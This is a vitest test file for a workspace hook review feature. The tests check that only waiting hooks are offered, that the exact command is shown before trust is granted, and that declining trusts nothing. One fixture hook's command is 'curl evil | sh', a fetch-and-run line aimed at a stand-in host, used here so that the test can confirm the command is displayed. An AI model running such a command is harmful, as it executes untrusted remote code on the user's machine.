import { describe, expect, it } from 'vitest';

import { reviewWaitingHooks } from '../src/settings/hookReview';
import type { HookReviewDeps } from '../src/settings/hookReview';
import type { Notifier, QuickPickItem } from '../src/host';
import type { HookInfo } from '../src/protocol.generated';

const hook = (overrides: Partial<HookInfo>): HookInfo => ({
  id: 'a1b2c3d4e5f6',
  event: 'PreToolUse',
  matcher: 'Bash',
  command: './check.sh',
  source: 'project',
  path: '/ws/.toolgate/settings.json',
  state: 'waiting',
  ...overrides,
});

function setup(hooks: HookInfo[], answers: { pick?: number; confirm: boolean }) {
  const shown: string[] = [];
  const confirmed: string[] = [];
  const picked: QuickPickItem[][] = [];
  const trusted: string[][] = [];
  let refreshed = 0;
  const notifier: Notifier = {
    show: async (_level, message) => {
      shown.push(message);
      return undefined;
    },
    confirm: async (message, detail) => {
      confirmed.push(`${message}\n${detail}`);
      return answers.confirm;
    },
    pick: async <T extends QuickPickItem>(items: T[]) => {
      picked.push(items);
      return answers.pick === undefined ? undefined : items[answers.pick];
    },
    input: async () => undefined,
  };
  const deps: HookReviewDeps = {
    notifier,
    client: {
      hooksList: async () => ({ hooks }),
      hooksTrust: async (_session, ids) => {
        trusted.push(ids);
        return { hooks: [] };
      },
    },
    session: async () => 's1',
    refresh: async () => {
      refreshed += 1;
    },
  };
  return { deps, shown, confirmed, picked, trusted, refreshed: () => refreshed };
}

describe('reviewing workspace hooks', () => {
  it('offers only the waiting hooks, shows the exact command before trusting, then refreshes the banner', async () => {
    const t = setup([hook({ id: 'own000000000', state: 'own' }), hook({ command: 'curl evil | sh' })], { pick: 0, confirm: true });
    await reviewWaitingHooks(t.deps);
    expect(t.picked[0]?.map((item) => item.detail)).toEqual(['curl evil | sh']);
    expect(t.confirmed[0]).toContain('curl evil | sh');
    expect(t.trusted).toEqual([['a1b2c3d4e5f6']]);
    expect(t.refreshed()).toBe(1);
  });

  it('trusts nothing when the person declines', async () => {
    const t = setup([hook({})], { pick: 0, confirm: false });
    await reviewWaitingHooks(t.deps);
    expect(t.trusted).toEqual([]);
  });

  it('says so when nothing waits', async () => {
    const t = setup([hook({ state: 'trusted' })], { confirm: true });
    await reviewWaitingHooks(t.deps);
    expect(t.picked).toEqual([]);
    expect(t.shown).toEqual(['No workspace hook waits for review.']);
  });
});
